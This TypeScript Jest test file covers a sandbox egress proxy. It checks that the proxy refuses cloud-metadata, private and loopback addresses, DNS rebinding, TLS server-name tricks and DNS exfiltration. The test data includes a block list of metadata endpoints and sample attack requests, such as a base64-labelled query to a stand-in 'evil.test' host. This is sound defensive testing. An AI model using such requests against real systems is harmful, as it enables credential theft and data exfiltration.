import { once } from 'node:events';
import { createSocket } from 'node:dgram';
import { Resolver } from 'node:dns/promises';
import { mkdtempSync, readdirSync, rmSync, statSync } from 'node:fs';
import { request } from 'node:http';
import type { IncomingMessage } from 'node:http';
import { connect } from 'node:net';
import type { Socket } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import type { TLSSocket } from 'node:tls';
import { afterAll, afterEach, describe, expect, it } from '@jest/globals';
import { blockedAddress } from '../../src/seams/web/blocked-address.ts';
import type { AddressRules } from '../../src/docker/egress/admit.ts';
import { connectPinned } from '../../src/docker/egress/connect-pinned.ts';
import { judgeTarget } from '../../src/docker/egress/egress-policy.ts';
import type { EgressPolicy } from '../../src/docker/egress/egress-policy.ts';
import { openEgress } from '../../src/docker/egress/open-egress.ts';
import type { Egress, EgressOptions } from '../../src/docker/egress/open-egress.ts';
import { RequestLog } from '../../src/docker/egress/request-log.ts';
import { forbiddenAddress, resolveHost } from '../../src/docker/egress/resolve-host.ts';
import { readServerName } from '../../src/docker/egress/tls-server-name.ts';
import { openTlsUpstream, openUpstream, TEST_CERTIFICATE } from './support/upstream.ts';

const folder = mkdtempSync(join(tmpdir(), 'dsh-egress-'));
const opened: { close(): unknown }[] = [];
afterEach(async () => {
  for (const thing of opened.splice(0)) await thing.close();
  expect(readdirSync(folder)).toEqual([]);
});
afterAll(() => rmSync(folder, { recursive: true }));

function use<T extends { close(): unknown }>(thing: T): T {
  opened.push(thing);
  return thing;
}

const LOOPBACK: AddressRules = {
  resolve: async () => [{ address: '127.0.0.1', family: 4 }],
  // The servers of these tests stand on the loopback; all else is judged as it always is.
  forbidden: (address) => (address === '127.0.0.1' ? undefined : forbiddenAddress(address)),
};
const resolvesTo = (...addresses: string[]): AddressRules => ({
  ...LOOPBACK,
  resolve: async () => addresses.map((address) => ({ address, family: address.includes(':') ? 6 : 4 })),
});

interface Way {
  egress: Egress;
  log: RequestLog;
  socketPath: string;
}
async function open(policy: EgressPolicy, options: Partial<EgressOptions> = {}): Promise<Way> {
  const log = new RequestLog();
  const egress = use(await openEgress({ folder, policy, record: log.add, rules: LOOPBACK, ...options }));
  return { egress, log, socketPath: join(egress.folder, 's') };
}
const allow = (...hosts: string[]): EgressPolicy => ({ network: 'allow-list', hosts });
const FULL: EgressPolicy = { network: 'full', hosts: [] };

interface Answer {
  status: number;
  body: string;
}
async function get({ socketPath }: Way, url: string, headers = {}): Promise<Answer> {
  const { promise, resolve, reject } = Promise.withResolvers<IncomingMessage>();
  request({ socketPath, path: url, headers, agent: false }, resolve).on('error', reject).end();
  const response = await promise;
  return { status: response.statusCode!, body: await text(response) };
}

async function tunnel({ socketPath }: Way, authority: string): Promise<{ status: number; socket: Socket }> {
  const socket = connect(socketPath);
  opened.push({ close: () => socket.destroy() });
  socket.on('error', () => {});
  socket.write(`CONNECT ${authority} HTTP/1.1\r\n\r\n`);
  const head = await new Promise<string>((resolve) => socket.once('data', (bytes) => resolve(bytes.toString())));
  return { status: Number(head.split(' ')[1]), socket };
}

function tls(socket: Socket, servername: string): Promise<TLSSocket> {
  const { promise, resolve, reject } = Promise.withResolvers<TLSSocket>();
  const secure = connectTls({ socket, servername, ca: TEST_CERTIFICATE, checkServerIdentity: () => undefined });
  secure.once('secureConnect', () => resolve(secure)).once('error', reject);
  return promise;
}

describe('web', () => {
  it.each([
    ['loopback', ['127.0.0.1', '127.255.255.254', '::1', '::ffff:127.0.0.1', '::ffff:7f00:1', '64:ff9b::7f00:1']],
    ['private', ['10.0.0.1', '172.16.0.1', '172.31.255.255', '192.168.1.1', 'fc00::1', 'fdff::1', '::ffff:10.1.2.3']],
    ['link-local', ['169.254.0.1', 'fe80::1', 'febf::1', 'fec0::1', '::ffff:169.254.1.1']],
    ['metadata', ['169.254.169.254', '169.254.170.2', '100.100.100.200', '168.63.129.16', '192.0.0.192']],
    ['metadata', ['fd00:ec2::254', 'fd20:ce::254', '::ffff:a9fe:a9fe', '64:ff9b::169.254.169.254']],
    ['carrier-grade NAT', ['100.64.0.1', '100.127.255.255']],
    ['multicast', ['224.0.0.1', '239.255.255.255', 'ff02::1']],
    ['reserved', ['0.0.0.0', '192.0.2.1', '198.18.0.1', '198.51.100.7', '203.0.113.9', '240.0.0.1', '255.255.255.255']],
    [
      'reserved',
      ['::', '::2', '::127.0.0.1', '100::1', '2001::1', '2001:db8::1', '2002:7f00:1::', '64:ff9b:1::1', '4000::1'],
    ],
    ['not an address', ['', 'localhost', '0x7f000001', '017700000001', '2130706433', '127.1', 'fe80::1%eth0', '::1 ']],
  ])('N9 the table of blocked addresses has %s: %j', (kind, addresses) => {
    for (const address of addresses) expect([address, blockedAddress(address)]).toEqual([address, kind]);
  });

  it('N9 the table of blocked addresses lets public ones through', () => {
    const around = [
      '9.255.255.255',
      '11.0.0.0',
      '100.63.255.255',
      '100.128.0.0',
      '172.15.255.255',
      '172.32.0.0',
      '223.255.255.255',
    ];
    for (const address of [
      ...around,
      '1.1.1.1',
      '169.253.1.1',
      '2606:4700::1111',
      '::ffff:8.8.8.8',
      '64:ff9b::808:808',
    ]) {
      expect([address, blockedAddress(address)]).toEqual([address, undefined]);
    }
  });
});

describe('bot-security', () => {
  it.each([
    [
      '127.0.0.1',
      '2130706433',
      '0x7f000001',
      '0x7f.1',
      '017700000001',
      '127.1',
      '0177.0.0.1',
      '127.0.0.1.',
      '1.1.1.1',
      '8.8.8.8.',
    ],
    ['::1', '::ffff:127.0.0.1', '2606:4700::1111', 'fe80::1%eth0'],
  ])('X3 an address is no name, however it is written: %s and others', (...spellings) => {
    for (const host of spellings) {
      expect([host, judgeTarget({ host, port: 443 }, FULL)]).toEqual([host, { refused: 'an address and not a name' }]);
    }
  });

  it('X3 takes only what is spelled like a public host', () => {
    for (const host of ['localhost', 'LOCALHOST.', 'metadata', '']) {
      expect([host, judgeTarget({ host, port: 443 }, FULL).refused]).toEqual([host, expect.stringMatching(/^not a/)]);
    }
    for (const host of ['a b.c', 'a..b', '-a.b', 'a_-.b', '１２７.0.0.1.x', 'a.b\0.c', `${'a.'.repeat(200)}b`]) {
      expect([host, judgeTarget({ host, port: 443 }, FULL)]).toEqual([host, { refused: 'not a host name' }]);
    }
    expect(judgeTarget({ host: 'Example.COM.', port: 443 }, FULL)).toEqual({ host: 'example.com' });
  });

  it.each([
    ['registry.test', 443, undefined],
    ['registry.test', 80, undefined],
    ['REGISTRY.test.', 443, undefined],
    ['a.wild.test', 443, undefined],
    ['a.b.wild.test', 443, undefined],
    ['odd.test', 8443, undefined],
    ['odd.test', 443, 'port not allowed'],
    ['registry.test', 22, 'port not allowed'],
    ['wild.test', 443, 'not on the list'],
    ['notwild.test', 443, 'not on the list'],
    ['a.registry.test', 443, 'not on the list'],
    ['registry.test.evil.example', 443, 'not on the list'],
    ['host.docker.internal', 443, 'not on the list'],
  ])('X3 the allow-list judges %s:%i: %s', (host, port, refused) => {
    const policy = allow('registry.test', '*.wild.test', 'odd.test:8443');
    expect(judgeTarget({ host, port }, policy).refused).toBe(refused);
  });

  it('X3 full lets every public host through, on the ports of the web and those listed', () => {
    const full: EgressPolicy = { network: 'full', hosts: ['odd.test:8443'] };
    expect(judgeTarget({ host: 'any.example', port: 443 }, full)).toEqual({ host: 'any.example' });
    expect(judgeTarget({ host: 'odd.test', port: 443 }, full)).toEqual({ host: 'odd.test' });
    expect(judgeTarget({ host: 'odd.test', port: 8443 }, full)).toEqual({ host: 'odd.test' });
    expect(judgeTarget({ host: 'any.example', port: 8443 }, full)).toEqual({ refused: 'port not allowed' });
  });

  it('X3 passes plain HTTP on, to the host it named and under no other name', async () => {
    const upstream = use(
      await openUpstream((incoming, response) => incoming.pipe(response.writeHead(201, { 'x-made': 'yes' }))),
    );
    const way = await open(allow(`registry.test:${upstream.port}`));

    const answer = await get(way, `http://registry.test:${upstream.port}/a?b=c`, {
      host: 'other.test',
      'proxy-authorization': 'x',
    });

    expect(answer).toEqual({ status: 201, body: '' });
    expect(upstream.requests).toEqual([{ url: '/a?b=c', host: `registry.test:${upstream.port}` }]);
    expect(way.log.take()).toEqual([{ host: 'registry.test', port: upstream.port, verdict: 'allowed', count: 1 }]);
  });

  it('X3 a redirect to metadata is the client’s to follow, and is refused like any request', async () => {
    const upstream = use(
      await openUpstream((_incoming, response) =>
        response.writeHead(302, { location: 'http://169.254.169.254/latest' }).end(),
      ),
    );
    const way = await open(allow(`registry.test:${upstream.port}`));

    expect((await get(way, `http://registry.test:${upstream.port}/`)).status).toBe(302);
    const followed = await get(way, 'http://169.254.169.254/latest');

    expect(followed).toEqual({
      status: 403,
      body: 'The network of this sandbox refused 169.254.169.254:80: an address and not a name.\n',
    });
    expect(upstream.requests).toHaveLength(1);
    expect(way.log.take()).toContainEqual({
      host: '169.254.169.254',
      port: 80,
      verdict: 'refused',
      reason: 'an address and not a name',
      count: 1,
    });
  });

  it('X3 tunnels TLS to a host of the list', async () => {
    const upstream = use(await openTlsUpstream((_incoming, response) => response.end('hello')));
    const way = await open(allow(`registry.test:${upstream.port}`));

    const { status, socket } = await tunnel(way, `registry.test:${upstream.port}`);
    const secure = await tls(socket, 'registry.test');
    secure.write('GET /x HTTP/1.1\r\nHost: registry.test\r\nConnection: close\r\n\r\n');

    expect(status).toBe(200);
    expect(await text(secure)).toMatch(/hello$/);
    expect(way.log.take()).toEqual([{ host: 'registry.test', port: upstream.port, verdict: 'allowed', count: 1 }]);
  });

  it('X3 ends a tunnel whose TLS asks for another host behind the same address', async () => {
    const upstream = use(await openTlsUpstream((_incoming, response) => response.end()));
    const way = await open(allow(`registry.test:${upstream.port}`));

    const { socket } = await tunnel(way, `registry.test:${upstream.port}`);

    await expect(tls(socket, 'evil.test')).rejects.toThrow();
    expect(upstream.requests).toEqual([]);
    expect(way.log.take()).toContainEqual({
      host: 'registry.test',
      port: upstream.port,
      verdict: 'refused',
      reason: 'TLS for another host',
      count: 1,
    });
  });

  it('X3 ends a tunnel that is no TLS, so that the host it talks to cannot be named inside', async () => {
    const upstream = use(await openUpstream((_incoming, response) => response.end('inside')));
    const way = await open(allow(`registry.test:${upstream.port}`));

    const { socket } = await tunnel(way, `registry.test:${upstream.port}`);
    socket.write('GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n');

    expect(await text(socket)).toBe('');
    expect(upstream.requests).toEqual([]);
    expect(way.log.take().at(-1)).toMatchObject({ verdict: 'refused', reason: 'a tunnel without TLS' });
  });

  it('X3 ends a tunnel whose TLS may mean another host than the one it names', async () => {
    const upstream = use(await openTlsUpstream((_incoming, response) => response.end()));
    const way = await open(allow(`registry.test:${upstream.port}`));
    const hello = withExtension(await clientHello('registry.test'), ENCRYPTED_CLIENT_HELLO);

    const { socket } = await tunnel(way, `registry.test:${upstream.port}`);
    socket.write(hello);

    expect(await text(socket)).toBe('');
    expect(readServerName(withExtension(await clientHello('registry.test'), 0x7777)).kind).toBe('name');
    expect(way.log.take().at(-1)).toMatchObject({ verdict: 'refused', reason: 'TLS that hides its host' });
  });

  it('X3 full asks no tunnel what it carries: every public host may be reached anyway', async () => {
    const upstream = use(await openUpstream((_incoming, response) => response.end('plain')));
    const way = await open({ network: 'full', hosts: [`any.test:${upstream.port}`] });

    const { socket } = await tunnel(way, `any.test:${upstream.port}`);
    socket.write('GET / HTTP/1.1\r\nHost: any.test\r\nConnection: close\r\n\r\n');

    expect(await text(socket)).toMatch(/plain$/);
  });

  it.each([
    [['127.0.0.1'], 'loopback'],
    [['10.0.0.1'], 'private'],
    [['169.254.169.254'], 'metadata'],
    [['1.1.1.1', '192.168.0.1'], 'private'],
    [['2606:4700::1111', '::ffff:10.0.0.1'], 'private'],
  ])('X3 refuses a name that resolves to %j (%s), and connects nowhere', async (addresses, kind) => {
    const upstream = use(await openUpstream((_incoming, response) => response.end()));
    const rules = { ...resolvesTo(...addresses), forbidden: forbiddenAddress };
    const way = await open({ network: 'full', hosts: [`rebind.test:${upstream.port}`] }, { rules });

    const plain = await get(way, `http://rebind.test:${upstream.port}/`);
    const { status } = await tunnel(way, `rebind.test:${upstream.port}`);

    expect([plain.status, status]).toEqual([403, 403]);
    expect(plain.body).toContain(`resolves to a forbidden address: ${kind}`);
    expect(upstream.connections).toBe(0);
  });

  it('X3 connects to the address it checked: a second look-up cannot rebind the name', async () => {
    const upstream = use(await openUpstream((_incoming, response) => response.end('checked')));
    const answers = [['127.0.0.1'], ['169.254.169.254']];
    let lookUps = 0;
    const resolve: AddressRules['resolve'] = async () => answers[lookUps++]!.map((address) => ({ address, family: 4 }));
    const way = await open(allow(`rebind.test:${upstream.port}`), { rules: { ...LOOPBACK, resolve } });

    const first = await get(way, `http://rebind.test:${upstream.port}/`);
    const second = await get(way, `http://rebind.test:${upstream.port}/`);

    expect([first.body, lookUps]).toEqual(['checked', 2]);
    expect(second.body).toContain('metadata');
    expect(upstream.connections).toBe(1);
  });

  it('X3 asks no name server for a host that is not on the list', async () => {
    const asked: string[] = [];
    const resolve: AddressRules['resolve'] = async (host) => {
      asked.push(host);
      return [];
    };
    const way = await open(allow('registry.test'), { rules: { ...LOOPBACK, resolve } });

    await get(way, 'http://c2VjcmV0.tunnel.evil.test/');
    const unresolved = await get(way, 'http://registry.test/');

    expect(asked).toEqual(['registry.test']);
    expect(unresolved.body).toContain('does not resolve');
  });

  it('X3 this machine’s own addresses are forbidden, whatever they are', () => {
    const own = Object.values(networkInterfaces()).flatMap((list) => list!.map(({ address }) => address));
    expect(own.length).toBeGreaterThan(0);
    for (const address of own) expect([address, forbiddenAddress(address)]).toEqual([address, expect.any(String)]);
    expect(forbiddenAddress('1.1.1.1')).toBeUndefined();
    for (const spelling of ['1.1.1.1', '::ffff:1.1.1.1', '::ffff:101:101', '64:ff9b::1.1.1.1']) {
      expect([spelling, forbiddenAddress(spelling, ['1.1.1.1'])]).toEqual([spelling, 'this machine']);
    }
    expect(forbiddenAddress('::ffff:1.1.1.1', ['1.1.1.2'])).toBeUndefined();
  });

  it('X3 understands requests for a proxy and nothing else', async () => {
    const way = await open(FULL);
    expect((await get(way, '/')).status).toBe(400);
    expect((await get(way, 'https://registry.test/')).status).toBe(400);
    expect((await get(way, 'ftp://registry.test/')).status).toBe(400);
    for (const authority of ['registry.test', 'registry.test:', 'registry.test:x', '@:443']) {
      expect([authority, (await tunnel(way, authority)).status]).toEqual([authority, expect.any(Number)]);
    }
    expect((await tunnel(way, '[::1]:443')).status).toBe(403);
    expect(way.log.take().filter(({ verdict }) => verdict === 'allowed')).toEqual([]);
  });

  it('X3 logs host, port, verdict and reason, counted, and nothing of what was sent', async () => {
    const way = await open(allow('registry.test'));
    for (const path of ['/a?token=secret', '/b'])
      await get(way, `http://user:pass@evil.test${path}`, { authorization: 'secret' });

    expect(way.log.take()).toEqual([
      { host: 'evil.test', port: 80, verdict: 'refused', reason: 'not on the list', count: 2 },
    ]);
    expect(way.log.take()).toEqual([]);
  });

  it('X3 the log stays small whatever is asked', () => {
    const log = new RequestLog();
    for (let number = 0; number < 1_000; number += 1) {
      log.add({ host: `h${number}.test`, port: 443, verdict: 'refused', reason: 'not on the list' });
    }
    const entries = log.take();
    expect(entries).toHaveLength(201);
    expect(entries.at(-1)).toEqual({ host: '(further hosts)', port: 0, verdict: 'refused', count: 800 });
  });

  it('X3 ends a connection over which nothing goes', async () => {
    const upstream = use(await openUpstream(() => {}));
    const hosts = [`slow.test:${upstream.port}`];
    const way = await open({ network: 'full', hosts }, { limits: { idleMs: 200 } });

    const started = performance.now();
    const { socket } = await tunnel(way, hosts[0]!);
    await Promise.all([text(socket), expect(get(way, `http://${hosts[0]}/`)).rejects.toThrow()]);

    expect(performance.now() - started).toBeGreaterThan(150);
    expect(performance.now() - started).toBeLessThan(5_000);
  });

  it('X3 a client that has gone leaves no connection to a host that does not answer', async () => {
    const held = new Set<Socket>();
    const upstream = use(
      await openUpstream(({ socket }) => void held.add(socket.once('close', () => held.delete(socket)))),
    );
    const url = `http://slow.test:${upstream.port}/`;
    const way = await open({ network: 'full', hosts: [`slow.test:${upstream.port}`] });
    for (const request of [`GET ${url} HTTP/1.1\r\n\r\n`, `POST ${url} HTTP/1.1\r\nContent-Length: 9\r\n\r\nhalf`]) {
      const client = connect(way.socketPath);
      client.write(request);
      while (held.size === 0) await sleep(10);
      client.destroy();
      for (let waited = 0; held.size > 0 && waited < 3_000; waited += 20) await sleep(20);
      expect([request, held.size]).toEqual([request, 0]);
    }
  });

  it('X3 takes no more connections than its limit', async () => {
    const way = await open(FULL, { limits: { connections: 2 } });
    const idle = [connect(way.socketPath), connect(way.socketPath)];
    for (const socket of idle) await once(socket, 'connect');
    await expect(get(way, 'http://localhost/')).rejects.toThrow();

    for (const socket of idle) socket.destroy();
    await sleep(50);
    expect((await get(way, 'http://localhost/')).status).toBe(403);
  });

  it('X3 says when a host does not answer', async () => {
    const upstream = await openUpstream(() => {});
    upstream.close();
    const way = await open(allow(`gone.test:${upstream.port}`));
    expect(await get(way, `http://gone.test:${upstream.port}/`)).toMatchObject({ status: 502 });
    expect((await tunnel(way, `gone.test:${upstream.port}`)).status).toBe(502);
  });

  it('X3 survives upstreams and clients that break off', async () => {
    const upstream = use(await openUpstream((incoming) => incoming.socket.destroy()));
    const way = await open(allow(`broken.test:${upstream.port}`));
    await expect(get(way, `http://broken.test:${upstream.port}/`)).rejects.toThrow();
    const client = connect(way.socketPath);
    client.write(`GET http://broken.test:${upstream.port}/ HTTP/1.1\r\n\r\n`, () => client.destroy());
    await sleep(50);
    expect((await get(way, 'http://evil.test/')).status).toBe(403);
  });

  it('X3 closing ends what is open and takes the socket away', async () => {
    const upstream = use(await openUpstream(() => {}));
    const way = await open({ network: 'full', hosts: [`slow.test:${upstream.port}`] });
    const { socket } = await tunnel(way, `slow.test:${upstream.port}`);
    expect(statSync(way.socketPath).isSocket()).toBe(true);

    await way.egress.close();

    expect(await text(socket)).toBe('');
    expect(() => statSync(way.egress.folder)).toThrow();
  });

  it('X3 closing waits for no name server and no host that says nothing', async () => {
    const mute = createSocket('udp4');
    await new Promise<void>((done) => mute.bind(0, '127.0.0.1', done));
    use({ close: () => mute.close() });
    const resolver = new Resolver({ timeout: 20_000, tries: 1 });
    resolver.setServers([`127.0.0.1:${mute.address().port}`]);
    let answered: Promise<unknown> | undefined;
    const resolve: AddressRules['resolve'] = (host, signal) => {
      const answer = resolveHost(host, signal, resolver);
      answered = answer;
      return answer;
    };
    const way = await open(FULL, { rules: { ...LOOPBACK, resolve } });
    const client = connect(way.socketPath).on('error', () => {});
    client.write('CONNECT slow.test:443 HTTP/1.1\r\n\r\n');
    while (!answered) await sleep(10);

    await way.egress.close();

    expect(await Promise.race([answered, sleep(5_000, 'still waiting', { ref: false })])).toEqual([]);
  });

  it('X3 a connection that is given up ends before its host has answered', async () => {
    const giving = new AbortController();
    const target = { host: 'slow.test', port: 443, addresses: [{ address: '192.0.2.1', family: 4 as const }] };
    const connecting = connectPinned(target, { limitMs: 20_000, signal: giving.signal });
    connecting.catch(() => {});

    giving.abort();

    await expect(Promise.race([connecting, sleep(5_000, 'still waiting', { ref: false })])).rejects.toThrow();
  });

  it('X3 a data directory too deep for a socket is named, and nothing is left', async () => {
    const deep = join(folder, 'd'.repeat(120));
    await expect(openEgress({ folder: deep, policy: FULL, record: () => {} })).rejects.toMatchObject({
      code: 'SANDBOX_UNAVAILABLE',
      hint: expect.stringContaining('DSH_DATA_DIR'),
    });
    expect(readdirSync(deep)).toEqual([]);
    rmSync(deep, { recursive: true });
  });

  it('X3 reads the server name of TLS in any pieces, and takes garbage for none', async () => {
    const bytes = await clientHello('registry.test');
    for (let size = 0; size < bytes.length; size += 1) {
      expect(readServerName(bytes.subarray(0, size)).kind).toBe('partial');
    }
    expect(readServerName(bytes)).toEqual({ kind: 'name', name: 'registry.test' });
    expect(readServerName(Buffer.from('GET / HTTP/1.1'))).toEqual({ kind: 'none' });
    expect(readServerName(await clientHello(undefined))).toEqual({ kind: 'none' });
    for (let at = 5; at < bytes.length; at += 1) {
      const damaged = Buffer.from(bytes);
      damaged[at] = 0xff;
      expect(['name', 'none', 'partial']).toContain(readServerName(damaged).kind);
    }
  });
});

/** The first record of a real client. */
async function clientHello(servername: string | undefined): Promise<Buffer> {
  const { promise, resolve } = Promise.withResolvers<Buffer>();
  const { Duplex } = await import('node:stream');
  const socket = new Duplex({
    read() {},
    write(chunk: Buffer, _encoding, done) {
      resolve(chunk);
      done();
    },
  });
  const secure = connectTls({ socket, ...(servername && { servername }) });
  secure.on('error', () => {});
  const bytes = await promise;
  secure.destroy();
  return bytes;
}

const ENCRYPTED_CLIENT_HELLO = 0xfe0d;

/** The same hello with one more extension, at the end. */
function withExtension(hello: Buffer, type: number): Buffer {
  const extension = Buffer.from([type >> 8, type & 255, 0, 2, 0, 0]);
  let at = 5 + 4 + 2 + 32;
  at += 1 + hello.readUInt8(at); // session id
  at += 2 + hello.readUInt16BE(at); // cipher suites
  at += 1 + hello.readUInt8(at); // compression methods
  const longer = Buffer.concat([hello, extension]);
  longer.writeUInt16BE(hello.readUInt16BE(3) + extension.length, 3);
  longer.writeUIntBE(hello.readUIntBE(6, 3) + extension.length, 6, 3);
  longer.writeUInt16BE(hello.readUInt16BE(at) + extension.length, at);
  return longer;
}
